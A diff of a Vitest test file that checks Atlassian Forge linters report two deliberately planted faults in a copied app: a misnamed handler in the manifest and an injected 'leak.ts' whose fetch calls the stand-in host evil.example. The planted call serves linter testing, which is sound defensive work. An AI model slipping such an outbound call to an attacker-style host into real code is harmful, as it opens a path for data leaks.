@@ -1,23 +1,17 @@
 import { expect, test } from 'vitest';
-import { exportsOf } from '../checks/source';
 import { readText } from '../tree';
 import { appCopy, findingsOf } from './app-copy';
 
-test("Atlassian's linters find no error and no warning", async () => {
-  expect(await findingsOf('lint.cjs', appCopy())).toEqual([]);
-}, 240_000);
-
-test("Atlassian's linters name a missing export and a fetch outside", async () => {
-  // An app of two short files: the linters take seconds over the types of the whole one.
-  const handlers = exportsOf(readText('src/index.ts'));
+test("Atlassian's linters find the two faults that were put into the app, and nothing else", async () => {
+  // Two in one run, which takes its time over the types of the whole app.
   const app = appCopy((manifest) => manifest.replace('handler: index.pages', 'handler: index.pagez'), {
-    'index.ts': handlers.map((name) => `export const ${name} = () => undefined;`).join('\n'),
     'leak.ts':
       "import { fetch } from '@forge/api';\nexport const leak = () => fetch('https://evil.example/x');",
   });
-  const findings = (await findingsOf('lint.cjs', app)).join('\n');
-  expect(findings).toMatch(/Cannot find exported function "pagez"/);
-  expect(findings).toMatch(/leak\.ts:2 error: .*evil\.example/);
+  expect((await findingsOf('lint.cjs', app)).sort()).toEqual([
+    expect.stringMatching(/Cannot find exported function "pagez"/),
+    expect.stringMatching(/leak\.ts:2 \w+: .*evil\.example/),
+  ]);
 }, 240_000);
 
 test('tsconfig names the sources in the one form the linters can read', () => {
